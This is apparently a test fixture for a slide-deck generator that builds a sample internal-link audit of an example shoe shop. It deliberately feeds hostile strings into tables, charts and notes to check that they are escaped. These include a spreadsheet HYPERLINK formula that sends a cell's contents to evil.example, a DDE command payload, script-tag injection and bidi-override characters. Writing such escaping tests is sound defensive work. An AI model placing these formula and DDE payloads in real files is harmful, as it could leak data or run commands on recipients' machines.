"""A story with everything a deck can hold, and with what a hostile site would put into it."""

from linkkit.deck.brand import Brand
from linkkit.deck.language import Language, language
from linkkit.deck.story import Card, Chart, Series, Slide, Story, Table, TableColumn

SITE = "https://shop.example/"
LONG_URL = SITE + "archive/" + "very-long-part/" * 540 + "end"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "bell\x07 \x1f \x00 unit \ud800 \ufffe half\u2028line",
    "</a:t><script>alert(1)</script> & <b>",
    "_x0041_ \u202eevil\u202c \u2066isolated\u2069",
    "https://evil.example/click mailto:x@y.example",
    "مرحبا بالعالم 中文標題 👩‍👩‍👧‍👦 café",
    LONG_URL,
)
SECTIONS = ("/", "/guides/", "/shop/", "/shop/shoes/", "/magazine/", "/help/", "/about/", "/jobs/")


def hostile_table() -> Table:
    """Forty rows of findings, hostile texts among them."""
    rows = [
        (
            ("high", "medium", "low", "info")[number % 4],
            HOSTILE[number % len(HOSTILE)] if number % 3 == 0 else f"{SITE}guides/page-{number}/",
            f"Row {number}: {HOSTILE[number % len(HOSTILE)][:90]}",
            float(number * 1234),
            number / 45 if number % 7 else None,
        )
        for number in range(1, 41)
    ]
    columns = (
        TableColumn("Severity", "severity", 0.8),
        TableColumn("Page", "url", 3),
        TableColumn("What is wrong", "text", 3.4),
        TableColumn("Links", "whole", 0.8),
        TableColumn("Share", "share", 0.7),
    )
    return Table(
        "findings",
        "The forty pages to begin with",
        columns,
        tuple(rows),
        1234,
        "The rest is in the workbook.",
    )


def charts() -> dict[str, Chart]:
    """One chart of every kind, by its name."""
    depth = ("0 clicks", "1 click", "2 clicks", "3 clicks", "4 clicks", "5 or more", "Out of reach")
    made = (
        Chart("depth", "columns", "Most pages lie within three clicks, 1,310 do not", depth,
              (Series("Pages", (1, 24, 310, 2204, 980, 330, None)),), "whole", "Pages", "Clicks from the start page",
              note="4,012 indexable pages; crawl of 1 May 2026.", alt="Pages by clicks from the start page: 1, 24, 310, 2,204, 980, 330.",
              roles=("main", "main", "main", "main", "bad", "bad", "quiet")),
        Chart("sections", "bars", "Two sections hold most of the links", SECTIONS,
              (Series("Share of links", (0.31, 0.24, 0.152, 0.1, 0.08, 0.06, 0.004, 0.0)),), "share", "Share of links",
              alt="Share of links by section.", line=0.2, line_title="Expected: 20 %"),
        Chart("anchors", "stacked_bars", "Anchors of money pages say too little", ("/shop/shoes/", "/shop/boots/", "/shop/socks/", HOSTILE[0]),
              (Series("Descriptive", (120, 44, 30, 12), "good"), Series("Generic", (80, 90, 12, 4), "warn"), Series("Empty", (2, 20, 1, 0), "bad")),
              "whole", "Links", alt="Anchors by kind.", line=150, line_title="Goal"),
        Chart("mix", "stacked_columns", "Link positions by section", SECTIONS[:5],
              (Series("Content", (0.4, 0.5, 0.2, 0.1, 0.6)), Series("Navigation", (0.5, 0.4, 0.6, 0.8, 0.3), "quiet"), Series("Footer", (0.1, 0.1, 0.2, 0.1, 0.1), "second")),
              "share", "Share of links", "Section", alt="Positions."),
        Chart("two", "columns", "Before and after", ("Ready", "To fix", "Unknown"),
              (Series("Today", (12, 30, 4), "quiet"), Series("With the plan", (35, 8, 3), "main")), "whole", "Money pages", alt="Before, after.", line=25, line_title="Goal: 25"),
        Chart("ledger", "waterfall", "Of 100 units of authority 41 reach money pages", ("Enters", "External links", "Broken links", "Nofollow", "Other pages", "Gained by plan", "Reaches money pages"),
              (Series("Units", (100.0, -12.5, -8.25, -1.5, -40.0, 3.25, 41.0)),), "units", "Units of 100", alt="Ledger.",
              totals=("Enters", "Reaches money pages")),
        Chart("flow", "heat_map", "Sections link mostly to themselves", SECTIONS[:6],
              tuple(Series(name, tuple((row * 7 + column * 3) % 11 / 10 if (row + column) % 5 else None for column in range(6))) for row, name in enumerate(SECTIONS)),
              "share", "Share of links", "From", alt="Flow between sections."),
        Chart("quadrant", "scatter", "Eight pages earn backlinks and pass nothing on", (),
              (Series("Pages", (0.1, 0.35, 0.6, 0.8, 0.12, 0.5), "quiet", (1, 5, 9, 14, 22, 30), ("", "", "", "", "", "")),
               Series("To act on", (0.05, 0.08, 0.02), "bad", (34, 40, 28), ("/guides/running/", HOSTILE[1], "/magazine/the-long-story-of-the-shoe/"))),
              "share", "Share passed on to money pages", "Referring domains", x_kind="whole", alt="Quadrant.", line=0.25, line_title="A quarter"),
        Chart("history", "line", "Readiness rose in four crawls", ("January", "February", "March", "April"),
              (Series("Reaches money pages", (31.5, 33.2, 38.0, 41.0)), ), "units", "Units of 100", alt="History.", line=45, line_title="Goal: 45"),
        Chart("lines", "line", "Findings by severity", ("January", "February", "March", "April"),
              (Series("High", (1200, 900, 300, 120), "bad"), Series("Medium", (2300, 2200, None, 1500), "warn"), Series("Low", (500, 480, 470, 460), "quiet")), "whole", "Findings", alt="History."),
    )  # fmt: skip
    return {chart.name: chart for chart in made}


def example_story(brand: Brand | None = None, lang: Language | None = None) -> Story:
    """A story of every kind of slide."""
    lines = (
        "Eleven of 41 money pages lie deeper than three clicks from the start page.",
        "Most of them hang below the magazine, which the navigation does not name.",
        "Backlinks to the magazine lose 38 % of what they bring before it reaches a page that earns.",
    )
    cards = (
        Card("Verdict", "Fix first", "Two of seven gates fail", "fix"),
        Card("Reaches money pages", "41 of 100", "units of authority today", "look"),
        Card("With the plan", "58 of 100", "after 24 new links", "good"),
        Card("Pages in the index", "4,012", "of 4,380 crawled"),
        Card("Orphans", "not known", "The crawl is not complete", "unknown"),
    )
    slides = [
        Slide("cover", "cover", "Is shop.example ready for backlinks?", lines=("Internal link audit",), notes="Welcome."),
        Slide("summary", "summary", "Not yet: fix two things first, then every backlink is worth a third more", "Summary", lines, cards,
              todo="Link the eleven pages from the three hubs; let the navigation name the magazine.", tone="fix", notes="Method.\n\nDefinitions.", comment="Said by hand."),
        Slide("gates", "readiness", "Two of seven gates fail", "Readiness", cards=cards[:3], table=Table("gates", "Gates", (TableColumn("Gate", "text", 3), TableColumn("State", "text", 1), TableColumn("Value", "share", 1)),
              (("Money pages within three clicks", "failed", 0.73), ("No orphan among them", "passed", 1.0), ("Anchors descriptive", "failed", 0.412)), 3), tone="look"),
        *(Slide(f"chart.{name}", "charts", chart.title if number % 2 else f"{chart.title}, and a headline that is long enough to need a second line on the slide", "Link depth and more", lines[: number % 4], (), chart,
                todo="Link them from their hub." if number % 3 == 0 else "", tone=("good", "look", "fix", "unknown", None)[number % 5], notes=f"How {name} is counted.") for number, (name, chart) in enumerate(charts().items())),
        Slide("text", "depth", "What to know about depth", "Link depth", lines * 2, todo="Nothing."),
        Slide("table", "findings", "The pages to begin with", "Findings", lines[:1], table=hostile_table(), tone="fix"),
        Slide("both", "findings", "A chart and a table", "Findings", chart=charts()["depth"], table=hostile_table()),
        Slide("hostile", "appendix", HOSTILE[0] + " " + "endless title " * 40, HOSTILE[5], HOSTILE, tuple(Card(text, text, text) for text in HOSTILE[:8]), todo=HOSTILE[9], notes="\n".join(HOSTILE), comment=HOSTILE[4]),
        Slide("many", "appendix", "Many words", "Appendix", tuple("A long sentence about everything that was looked at and more. " * 14 for _ in range(4))),
        Slide("empty", "appendix", "Nothing to draw", "Appendix", chart=Chart("none", "bars", "No numbers", (), (), alt="")),
    ]  # fmt: skip
    return Story(
        client="Shoe Shop & Söhne",
        site=SITE,
        date="1 May 2026",
        title="Internal link audit of shop.example",
        slides=tuple(slides),
        scope=("4,380 pages crawled on 1 May 2026, links of robots.txt-blocked pages not seen.", "Search Console of 90 days; no backlink data."),
        limits=("The crawl stopped at 5,000 pages: orphans cannot be told from pages that were not reached.",),
        thresholds=("max_crawl_depth = 4 clicks (default 3)",),
        made_with="linkkit 0.1.0, 2 May 2026",
        language=lang or language("en"),
        is_complete=False,
        brand=brand or Brand("Backlink Studio"),
    )  # fmt: skip
